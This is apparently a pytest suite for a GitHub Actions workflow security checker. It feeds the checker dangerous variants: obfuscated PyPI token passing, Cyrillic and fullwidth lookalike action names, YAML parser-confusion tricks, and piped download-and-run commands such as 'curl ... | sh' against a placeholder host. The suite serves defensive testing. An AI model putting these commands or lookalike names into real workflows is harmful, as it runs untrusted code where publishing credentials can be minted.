"""Nothing hides from the ``workflow`` check (issue 13).

Each case is a workflow GitHub would run dangerously (or read differently from a YAML 1.1
tool) written the way an attacker, or an unlucky copy-paste, would write it: the check must
report it with its line. Each starts from the seed shape that passes clean (``GOOD``), so the
one edit is what the finding is about.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from release_assistant.core.findings import Severity, Status
from release_assistant.core.workflows.workflow import parse_workflow
from tests.conftest import RepoFactory
from tests.test_workflow_check import GOOD, RELEASE, check, codes, expect, line_of, mutate, only

PUBLISH = "        uses: pypa/gh-action-pypi-publish@release/v1\n"
PYPI_PUBLISH = "      - name: Publish to PyPI\n" + PUBLISH
TOP_PERMISSIONS = "permissions:\n  contents: read\n"


def pypi_step(extra: str) -> str:
    """``GOOD`` with ``extra`` lines added to the PyPI publish step."""
    return mutate(GOOD, PYPI_PUBLISH, PYPI_PUBLISH + extra)


# -- YAML 1.1 and 1.2 readers disagree, or GitHub rejects -------------------------------------


@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85"])
def test_a_yaml_1_1_line_break_in_a_comment_is_an_error_with_its_line(
    make_repo: RepoFactory, char: str
) -> None:
    # PyYAML ends the comment at the character and sees a trigger; GitHub sees a comment.
    text = mutate(GOOD, "on:\n", f"on:\n  # note{char}  pull_request_target:\n")
    result = check(make_repo, text)
    assert result.status is Status.FAIL
    found = only(result, "RA640")
    assert [f.line for f in found] == [line_of(text, "# note")]
    assert found[0].severity is Severity.ERROR and found[0].path == RELEASE
    assert found[0].hint


def test_a_value_key_is_an_error(make_repo: RepoFactory) -> None:
    text = mutate(GOOD, "    runs-on: ubuntu-latest\n", "    runs-on: ubuntu-latest\n    =: x\n", 4)
    result = check(make_repo, text)
    found = only(result, "RA640")
    assert [f.line for f in found] == [line_of(text, "=: x", n) for n in range(1, 5)]


def test_a_merge_key_is_an_error(make_repo: RepoFactory) -> None:
    text = mutate(GOOD, "  verify:\n", "  verify:\n    <<: {timeout-minutes: 5}\n")
    expect(check(make_repo, text), "RA636", line_of(text, "<<:"))


def test_a_duplicate_key_is_an_error(make_repo: RepoFactory) -> None:
    # PyYAML and most readers keep the last `on:`; GitHub rejects the file.
    text = GOOD + "on: pull_request_target\n"
    result = check(make_repo, text)
    found = only(result, "RA602")
    assert line_of(text, "on: pull_request_target") in [f.line for f in found]
    assert result.status is Status.FAIL


@pytest.mark.parametrize("key", ["defaults", "concurrency", "run-name", "env"])
def test_every_top_level_key_github_allows_passes(make_repo: RepoFactory, key: str) -> None:
    value = "{run: {shell: bash}}" if key == "defaults" else "release" if key != "env" else "{}"
    text = mutate(GOOD, TOP_PERMISSIONS, f"{key}: {value}\n{TOP_PERMISSIONS}")
    assert check(make_repo, text).status is Status.PASS


@pytest.mark.parametrize("key", ["On", "triggers", "job", "true"])
def test_an_unknown_top_level_key_is_an_error(make_repo: RepoFactory, key: str) -> None:
    text = mutate(GOOD, TOP_PERMISSIONS, f"{key}: x\n{TOP_PERMISSIONS}")
    expect(check(make_repo, text), "RA602", line_of(text, f"{key}: x"))


# -- token publishing, however it is spelled ----------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        "        with:\n          PASSWORD: ${{ secrets.PYPI_API_TOKEN }}\n",
        "        with:\n          Password: ${{ secrets.PYPI_API_TOKEN }}\n",
        "        with:\n          password: ${{ secrets['PYPI_API_TOKEN'] }}\n",
        '        with:\n          password: ${{ secrets["PYPI_API_TOKEN"] }}\n',
        "        with:\n          password: ${{ toJSON(secrets) }}\n",
        "        with:\n          password: ${{ fromJSON(toJSON(secrets)).PYPI_API_TOKEN }}\n",
        "        with:\n          password: pypi-AgEIcHlwaS5vcmcCJGExYmMy\n",
        "        env:\n          INPUT_PASSWORD: ${{ secrets.PYPI_API_TOKEN }}\n",
        "        env:\n          input_password: ${{ secrets['PYPI_API_TOKEN'] }}\n",
    ],
)
def test_token_inputs_of_the_publish_action(make_repo: RepoFactory, extra: str) -> None:
    text = pypi_step(extra)
    credential = extra.splitlines()[1].strip().split(":", 1)[0]
    expect(check(make_repo, text), "RA626", line_of(text, credential + ":"))


@pytest.mark.parametrize(
    "run",
    [
        "twine upload -p ${{ secrets.PYPI_API_TOKEN }} dist/*",
        "twine upload -u __token__ -p ${{ secrets['PYPI_API_TOKEN'] }} dist/*",
        "twine upload --password=${{ toJSON(secrets) }} dist/*",
        "uv publish --token ${{ secrets.PYPI_API_TOKEN }}",
    ],
)
def test_token_options_of_upload_commands(make_repo: RepoFactory, run: str) -> None:
    text = mutate(GOOD, PYPI_PUBLISH, f"      - name: Publish to PyPI\n        run: {run}\n")
    expect(check(make_repo, text), "RA626", line_of(text, run))


def test_a_token_variable_from_an_indexed_secret(make_repo: RepoFactory) -> None:
    step = (
        "      - name: Publish to PyPI\n        run: twine upload dist/*\n"
        "        env:\n          TWINE_PASSWORD: ${{ secrets['PYPI_API_TOKEN'] }}\n"
    )
    text = mutate(GOOD, PYPI_PUBLISH, step)
    expect(check(make_repo, text), "RA626", line_of(text, "TWINE_PASSWORD:"))


@pytest.mark.parametrize(
    "value",
    [
        "${{ secrets['PYPI_API_TOKEN'] }}",
        '${{ secrets [ "pypi_api_token" ] }}',
        "${{ toJSON(secrets) }}",
        "${{ ToJson( secrets ) }}",
    ],
)
def test_index_secrets_in_a_step_that_does_not_upload(make_repo: RepoFactory, value: str) -> None:
    step = "      - name: Tests\n"
    text = mutate(GOOD, step, f"      - run: ./notify\n        env:\n          X: {value}\n{step}")
    result = check(make_repo, text)
    expect(result, "RA639", line_of(text, "X: "), severity=Severity.WARNING)


def test_the_github_token_by_index_is_no_index_token(make_repo: RepoFactory) -> None:
    step = "      - name: Tests\n"
    value = "${{ secrets['GITHUB_TOKEN'] }}"
    text = mutate(GOOD, step, f"      - run: ./notify\n        env:\n          X: {value}\n{step}")
    assert check(make_repo, text).status is Status.PASS


@pytest.mark.parametrize(
    "uses",
    [
        "docker://ghcr.io/pypa/gh-action-pypi-publish:release-v1",
        "docker://ghcr.io/pypa/gh-action-pypi-publish@sha256:" + "a" * 64,
        "PyPA/GH-Action-PyPI-Publish@release/v1",
        '"pypa/gh-action-pypi-publish\\u0040release/v1"',
        '"\\x70ypa/gh-action-pypi-publish@release/v1"',
        "'pypa/gh-action-pypi-publish@release/v1'",
    ],
)
def test_the_publish_action_however_it_is_written(make_repo: RepoFactory, uses: str) -> None:
    text = mutate(
        GOOD,
        PYPI_PUBLISH,
        f"      - name: Publish to PyPI\n        uses: {uses}\n"
        "        with:\n          password: ${{ secrets.PYPI_TOKEN }}\n",
    )
    result = check(make_repo, text)
    found = only(result, "RA626")
    assert [f.line for f in found] == [line_of(text, "password:")], result.findings


@pytest.mark.parametrize(
    "lookalike",
    [
        "\u0440\u0443pa/gh-action-pypi-publish@release/v1",  # Cyrillic er, u
        "pyp\u0430/gh-action-pypi-publish@release/v1",  # Cyrillic a
        "pypa/gh-action-pypi-publi\u0455h@release/v1",  # Cyrillic dze
        "pypa/gh-action-\uff50ypi-publish@release/v1",  # fullwidth p
    ],
)
def test_a_lookalike_of_the_publish_action(make_repo: RepoFactory, lookalike: str) -> None:
    text = mutate(
        GOOD,
        PYPI_PUBLISH,
        f"      - name: Publish to PyPI\n        uses: {lookalike}\n"
        "        with:\n          password: ${{ secrets.X }}\n",
    )
    result = check(make_repo, text)
    assert result.status is Status.FAIL
    lookalikes = only(result, "RA641")
    assert [f.line for f in lookalikes] == [line_of(text, "uses: " + lookalike)]
    assert lookalikes[0].severity is Severity.ERROR
    # It is the publish action to whoever reads it, so its token is token publishing.
    assert [f.line for f in only(result, "RA626")] == [line_of(text, "password:")]


def test_non_ascii_in_any_uses_is_an_error(make_repo: RepoFactory) -> None:
    text = mutate(GOOD, "uses: actions/setup-python@v5", "uses: act\u0456ons/setup-python@v5")
    expect(check(make_repo, text), "RA641", line_of(text, "setup-python@v5"))


# -- conditions that guard nothing ----------------------------------------------------------------


@pytest.mark.parametrize(
    "condition",
    [
        "always()",
        "true",
        "${{ true }}",
        "success() || true",
        "${{ always() }}",
        "${{ 'yes' }}",
        "'!false'",
    ],
)
def test_a_constant_true_condition_is_no_guard(make_repo: RepoFactory, condition: str) -> None:
    text = mutate(GOOD, "on:\n", "on:\n  push:\n    branches: [main]\n")
    text = mutate(text, "  publish-pypi:\n", f"  publish-pypi:\n    if: {condition}\n")
    expect(check(make_repo, text), "RA607", line_of(text, "push:"))


def test_a_real_guard_still_guards(make_repo: RepoFactory) -> None:
    text = mutate(GOOD, "on:\n", "on:\n  push:\n    branches: [main]\n")
    guard = "    if: github.event_name == 'release'\n"
    text = mutate(text, "  publish-pypi:\n", "  publish-pypi:\n" + guard)
    text = mutate(text, "  publish-testpypi:\n", "  publish-testpypi:\n" + guard)
    assert check(make_repo, text).status is not Status.FAIL


# -- triggers anyone can fire ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "event",
    [
        "issue_comment",
        "issues",
        "watch",
        "fork",
        "discussion",
        "discussion_comment",
        "pull_request_review",
        "pull_request_review_comment",
        "pull_request_target",
        "workflow_run",
    ],
)
def test_triggers_anyone_can_fire(make_repo: RepoFactory, event: str) -> None:
    text = mutate(GOOD, "on:\n", f"on:\n  {event}:\n")
    expect(check(make_repo, text), "RA606", line_of(text, f"{event}:"))


def test_a_trigger_list_with_watch(make_repo: RepoFactory) -> None:
    text = mutate(GOOD, "on:\n  release:\n    types: [published]\n", "on: [release, watch]\n")
    result = check(make_repo, text)
    assert line_of(text, "on: [release, watch]") in [f.line for f in only(result, "RA606")]


# -- environments -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "environment",
    ["environment: ''", 'environment: ""', "environment: ' '", "environment: {name: ''}"],
)
def test_a_blank_environment_is_no_environment(make_repo: RepoFactory, environment: str) -> None:
    text = mutate(GOOD, "      name: pypi\n", "      name: pypi-old\n")
    text = mutate(
        text,
        "    environment:\n      name: pypi-old\n      url: ",
        f"    {environment}\n    x-url: ",
    )
    text = text.replace("    x-url: ", "    # url: ")
    result = check(make_repo, text)
    assert line_of(text, "  publish-pypi:") in [f.line for f in only(result, "RA623")]


# -- third-party code where the OIDC token can be minted ------------------------------------------


@pytest.mark.parametrize(
    "run",
    [
        "curl -sSL https://example.invalid/install.sh | sh",
        "curl -fsSL https://example.invalid/x | bash -s -- --yes",
        "wget -O- https://example.invalid/x | sh",
        "wget -qO - https://example.invalid/x | sudo bash",
        'sh -c "$(curl -fsSL https://example.invalid/x)"',
        "bash <(curl -s https://example.invalid/x)",
    ],
)
def test_piped_downloads_in_a_job_holding_id_token(make_repo: RepoFactory, run: str) -> None:
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - run: {run}\n      - name: Publish to PyPI\n",
    )
    result = check(make_repo, text)
    expect(result, "RA642", line_of(text, run), severity=Severity.WARNING)


def test_a_piped_download_in_a_job_without_id_token_is_not_this_rule(
    make_repo: RepoFactory,
) -> None:
    run = "curl -sSL https://example.invalid/install.sh | sh"
    text = mutate(GOOD, "      - name: Tests\n", f"      - run: {run}\n      - name: Tests\n")
    assert only(check(make_repo, text), "RA642") == []


@pytest.mark.parametrize(
    "config", ["", "[tool.release-assistant.workflow_rules]\nrequire_pinned_actions = false\n"]
)
def test_an_unpinned_third_party_action_in_a_job_holding_id_token(
    make_repo: RepoFactory, config: str
) -> None:
    uses = "someone/setup-thing@v2"
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - uses: {uses}\n      - name: Publish to PyPI\n",
    )
    result = check(make_repo, text, config=config)
    expect(result, "RA642", line_of(text, uses), severity=Severity.WARNING)
    assert only(result, "RA631") == []  # one finding for the one cause


@pytest.mark.parametrize(
    "uses",
    ["someone/setup-thing@" + "0123456789abcdef" * 2 + "01234567", "actions/cache@v4",
     "pypa/gh-action-pypi-publish@release/v1", "./local-action"],
)  # fmt: skip
def test_pinned_or_first_party_actions_are_fine(make_repo: RepoFactory, uses: str) -> None:
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - uses: {uses}\n      - name: Publish to PyPI\n",
    )
    assert only(check(make_repo, text), "RA642") == []


SHA = "0123456789abcdef" * 2 + "01234567"


def test_a_pinned_third_party_action_beside_a_write_all_token(make_repo: RepoFactory) -> None:
    # `write-all` holds `id-token: write` too: a pin does not make the action one of ours.
    uses = f"someone/setup-thing@{SHA}"
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - uses: {uses}\n      - name: Publish to PyPI\n",
    )
    text = text.replace(
        "    permissions:\n      id-token: write\n", "    permissions: write-all\n", 1
    )
    expect(check(make_repo, text), "RA643", line_of(text, uses), severity=Severity.WARNING)


@pytest.mark.parametrize("owner", ["\u0430ctions", "pyp\u0430", "\uff50ypa"])
def test_a_look_alike_of_a_trusted_owner_is_not_trusted(make_repo: RepoFactory, owner: str) -> None:
    # A Cyrillic a or a fullwidth p is another owner; RA641 names it, once (not RA643 too).
    uses = f"{owner}/cache@{SHA}"
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - uses: {uses}\n      - name: Publish to PyPI\n",
    )
    result = check(make_repo, text)
    expect(result, "RA641", line_of(text, uses))
    assert only(result, "RA643") == []


@pytest.mark.parametrize("owner", ["Actions", "PYPA", "GitHub"])
def test_trusted_owners_in_another_letter_case_are_trusted(
    make_repo: RepoFactory, owner: str
) -> None:
    text = mutate(
        GOOD,
        "      - name: Publish to PyPI\n",
        f"      - uses: {owner}/thing@{SHA}\n      - name: Publish to PyPI\n",
    )
    assert only(check(make_repo, text), "RA643") == []


ENVIRONMENT = "    environment:\n      name: pypi\n"


@pytest.mark.parametrize(
    "name",
    [
        '"${{ inputs.env || \'pypi }}"',  # an unclosed quote
        '"${{ (inputs.env }}"',  # an unclosed bracket
        '"${{ }}"',
        '"${{ inputs. }}"',
        '"${{ ${{ inputs.env }} }}"',
    ],
)
def test_an_odd_environment_expression_is_no_finding_and_no_crash(
    make_repo: RepoFactory, name: str
) -> None:
    text = mutate(GOOD, ENVIRONMENT, f"    environment:\n      name: {name}\n")
    result = check(make_repo, text)
    assert only(result, "RA644") == [] and result.status is not Status.FAIL, result.findings


def test_a_long_chain_of_alternatives_is_judged_in_linear_time(make_repo: RepoFactory) -> None:
    chain = " || ".join(f"inputs.e{index}" for index in range(20_000))
    text = mutate(GOOD, ENVIRONMENT, f"    environment:\n      name: '${{{{ {chain} }}}}'\n")
    started = time.perf_counter()
    result = check(make_repo, text)
    assert time.perf_counter() - started < 5
    found = expect(result, "RA644", line_of(text, "${{"), severity=Severity.WARNING)
    assert len(found.message) < 500 and len(found.hint or "") < 300


def test_a_huge_matrix_is_not_expanded(make_repo: RepoFactory) -> None:
    # 10,000 include rows against 200 combinations would be two million comparisons.
    rows = "".join(
        f"          - env: e{index}\n            python: '{index}'\n" for index in range(10_000)
    )
    values = "[" + ", ".join(f"'{index}'" for index in range(200)) + "]"
    text = mutate(GOOD, ENVIRONMENT, "    environment:\n      name: ${{ matrix.env }}\n")
    text = mutate(
        text,
        "  publish-pypi:\n",
        f"  publish-pypi:\n    strategy:\n      matrix:\n        python: {values}\n"
        f"        include:\n{rows}",
    )
    started = time.perf_counter()
    result = check(make_repo, text)
    assert time.perf_counter() - started < 5
    assert only(result, "RA644") == []


# -- bounded work ---------------------------------------------------------------------------------


def dense_needs(jobs: int, publish_every: int = 0) -> str:
    """``jobs`` jobs, each needing the previous 20; every ``publish_every``-th one publishes."""
    lines = ["on:", "  release:", "    types: [published]", "jobs:"]
    for index in range(jobs):
        lines += [f"  j{index}:", "    runs-on: ubuntu-latest"]
        needs = [f"j{other}" for other in range(max(0, index - 20), index)]
        if needs:
            lines.append(f"    needs: [{', '.join(needs)}]")
        publishes = publish_every and index % publish_every == publish_every - 1
        if publishes:
            lines += ["    environment: pypi", "    permissions:", "      id-token: write"]
        lines += ["    steps:", "      - run: echo hi"]
        if publishes:
            lines += [
                "      - uses: actions/download-artifact@v4",
                "      - uses: pypa/gh-action-pypi-publish@release/v1",
            ]
    return "\n".join(lines) + "\n"


def test_the_needs_closure_is_computed_once_and_linearly() -> None:
    count = 1600
    workflow = parse_workflow(dense_needs(count), Path(RELEASE), RELEASE)
    edges = sum(len(job.needs) for job in workflow.jobs.values())
    assert edges > 30_000
    assert workflow.needs_closure(f"j{count - 1}") == {f"j{index}" for index in range(count - 1)}
    assert workflow.needs_closure("j0") == set()
    assert workflow.needs_closure("j21") == {f"j{index}" for index in range(21)}
    # One visit per job and at most two per edge, once for the whole workflow...
    steps = workflow.closure_steps
    assert count <= steps <= count + 2 * edges
    # ...however many jobs ask afterwards.
    for job_id in workflow.jobs:
        workflow.needs_closure(job_id)
    assert workflow.closure_steps == steps


def test_a_needs_cycle_ends_the_closure() -> None:
    text = "on: push\njobs:\n  a: {needs: b}\n  b: {needs: [c]}\n  c: {needs: a}\n  d: {}\n"
    workflow = parse_workflow(text, Path(RELEASE), RELEASE)
    assert workflow.needs_closure("a") >= {"b", "c"}
    assert workflow.needs_closure("d") == set()
    assert workflow.needs_closure("unknown") == set()


def test_dense_needs_check_in_well_under_a_second(make_repo: RepoFactory) -> None:
    from release_assistant.core.checks import workflow as workflow_check
    from release_assistant.core.context import RepoContext

    text = dense_needs(1600, publish_every=10)  # 160 publish jobs
    root = make_repo({"pyproject.toml": '[project]\nname = "x"\nversion = "1"\n', RELEASE: text})
    ctx = RepoContext.load(root)
    started = time.perf_counter()
    result = workflow_check.run(ctx)
    elapsed = time.perf_counter() - started
    # It really analysed the publish jobs: nothing uploads what they download.
    assert "RA617" in codes(result) or "RA616" in codes(result), result.findings
    assert elapsed < 5, elapsed  # generous for slow CI machines; see the report for figures
